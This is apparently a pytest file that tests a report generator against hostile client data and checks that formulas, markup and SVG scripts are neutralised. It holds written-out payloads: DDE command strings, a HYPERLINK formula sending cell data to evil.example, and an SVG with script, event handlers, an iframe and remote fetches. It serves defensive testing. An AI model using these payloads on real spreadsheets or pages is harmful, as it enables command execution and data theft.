"""A client whose data is hostile, reported end to end: formulas in names and comments, a department
named like a DDE payload, rich markup in the client's name, and an SVG logo carrying scripts.

One report run serves every test here (module scope). The produced XLSX files are opened with openpyxl:
no cell holds a formula or a text starting with ``=``, the hostile texts arrive neutralised (so the test
can fail), numbers stay numbers; the logo is embedded sanitised; nothing outside the output folder is
written."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from audit import audited, connect_host, is_loopback

from cxlab.demo import generate_demo_client
from cxlab.report import build_report
from cxlab.safety import sanitise_svg

pytestmark = pytest.mark.slow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DDE_DEPARTMENT = "=cmd|' /C calc'!A0"
EVIL_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"
     onload="alert(1)">
  <script>alert(2)</script>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject>
  <a xlink:href="javascript:alert(3)"><rect width="10" height="10" fill="#1f4e79" onclick="alert(4)"/></a>
  <image href="http://evil.example/track.png" width="1" height="1"/>
  <set attributeName="href" to="javascript:alert(5)"/>
  <style>@import url(http://evil.example/x.css);</style>
  <circle cx="5" cy="5" r="2" style="fill:url(http://evil.example/#p)"/>
</svg>"""


def tree_digest(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory):
    base = tmp_path_factory.mktemp("hostile")
    client = generate_demo_client(base / "client", seed=5, language="en", customers=120, cases=400)
    data = client / "data"
    customers = pd.read_csv(data / "clienti.csv", sep=";", dtype=str, encoding="utf-8-sig")
    customers["ragione_sociale"] = [FORMULAS[i % len(FORMULAS)] + f" {i}" for i in range(len(customers))]
    customers.to_csv(data / "clienti.csv", sep=";", index=False, encoding="utf-8-sig")
    responses = pd.read_csv(data / "risposte.csv", dtype=str, keep_default_na=False)
    responses["comment"] = [FORMULAS[i % len(FORMULAS)] + " servizio pessimo" for i in range(len(responses))]
    responses.to_csv(data / "risposte.csv", index=False)
    events = pd.read_csv(data / "eventi.csv", dtype=str, keep_default_na=False)
    events.loc[events["department"] == "Sales", "department"] = DDE_DEPARTMENT
    events.to_csv(data / "eventi.csv", index=False)
    (client / "logo.svg").write_bytes(EVIL_SVG)
    config = (client / "client.yaml").read_text(encoding="utf-8")
    config = re.sub(
        r"^name: .*$", 'name: "Rossi [/] [bold]&[/bold] <b>Figli</b>"', config, count=1, flags=re.M
    )
    config = config.replace("branding:\n", "branding:\n  logo: logo.svg\n", 1)
    (client / "client.yaml").write_text(config, encoding="utf-8")
    # a file next to the client folder, and one the YAML could point at: neither may be read
    (base / "outside").mkdir()
    (base / "outside" / "secret.csv").write_text("case_id\nsecret\n", encoding="utf-8")
    before = tree_digest(base)
    out = base / "out"
    watch = tmp_path_factory.mktemp("audit")
    with pytest.MonkeyPatch.context() as monkeypatch, audited(watch, monkeypatch) as audit:
        result = build_report(client, out)
    return base, client, out, result, before, audit


def cells(path: Path):
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            yield from row


@pytest.mark.parametrize("name", ["action_lists.xlsx", "action_plan.xlsx"])
def test_no_formula_in_the_produced_workbooks(hostile_run, name: str) -> None:
    _, _, out, _, _, _ = hostile_run
    path = out / name
    assert path.is_file()
    values = list(cells(path))
    assert values
    for cell in values:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (cell.coordinate, cell.value)
    if name == "action_lists.xlsx":
        texts = [c.value for c in values if isinstance(c.value, str)]
        # the hostile names and comments are there, as text with a leading apostrophe
        assert any(t.startswith("'=HYPERLINK(") for t in texts)
        assert any(t.startswith("'@SUM(") for t in texts)
        # numbers stay numbers
        assert any(isinstance(c.value, int | float) and not isinstance(c.value, bool) for c in values)


def test_no_formula_in_the_produced_csvs(hostile_run) -> None:
    _, _, out, _, _, _ = hostile_run
    files = sorted(out.glob("action_*.csv"))
    assert files
    seen = 0
    for path in files:
        text = path.read_text(encoding="utf-8-sig")
        sep = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
            for field in row:
                assert not field.startswith(("=", "+", "@", "\t", "\r")), (path.name, field)
                if field.startswith("-"):  # a negative number is a number, not a formula
                    float(field.replace(",", "."))
                seen += field.startswith("'=")
    assert seen


def test_the_logo_is_embedded_sanitised(hostile_run) -> None:
    _, _, out, _, _, _ = hostile_run
    html = (out / "report.html").read_text(encoding="utf-8")
    match = re.search(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)", html)
    assert match, "no logo in the report"
    svg = base64.b64decode(match.group(1)).decode("utf-8")
    assert "<rect" in svg and "<circle" in svg  # the drawing is kept
    for bad in (
        "script",
        "onload",
        "onclick",
        "foreignObject",
        "iframe",
        "javascript:",
        "evil.example",
        "<set",
    ):
        assert bad not in svg, bad
    assert svg == sanitise_svg(EVIL_SVG).decode("utf-8")


def test_client_text_is_escaped_in_the_report(hostile_run) -> None:
    _, _, out, result, _, _ = hostile_run
    assert result.ok and result.client_name.startswith("Rossi [/]")
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<b>Figli</b>" not in html and "&lt;b&gt;Figli&lt;/b&gt;" in html


def test_nothing_outside_the_output_folder_is_written(hostile_run) -> None:
    base, _, out, _, before, _ = hostile_run
    after = {k: v for k, v in tree_digest(base).items() if not k.startswith(out.name + "/")}
    assert after == before


def test_the_report_makes_no_network_connection(hostile_run) -> None:
    """Every connection of the run (this process and its kernel) is the kernel's loopback: Python's own
    (audit hooks, in both processes) and libzmq's (the sockets the processes hold, sampled)."""
    _, _, _, result, _, audit = hostile_run
    assert result.ok
    assert len(audit.processes) >= 2, "the kernel's audit hook did not run"  # this process and the kernel
    for pid, detail in audit.events("connect"):
        host = connect_host(detail)
        assert host is None or is_loopback(host), (pid, detail)
    for pid, host in audit.events("resolve"):
        assert is_loopback(host), (pid, host)
    assert audit.remote, "no socket seen: the sampler did not see the kernel's connections"
    assert all(is_loopback(ip) for _, ip in audit.remote), audit.remote


def test_nothing_outside_the_client_and_output_folders_is_read(hostile_run) -> None:
    """Of the test's folder, only the client folder and the output folder are opened (by this process or
    the kernel); the secret next to the client folder, and the system's password file, never."""
    base, client, out, _, _, audit = hostile_run
    opened = {Path(path) for _, path in audit.events("open")}
    assert any(p.is_relative_to(client / "data") for p in opened)  # the data was read, and seen read
    assert Path("/etc/passwd") not in opened
    inside = [p for p in opened if p.is_relative_to(base)]
    strays = [p for p in inside if not (p.is_relative_to(client) or p.is_relative_to(out))]
    assert strays == []
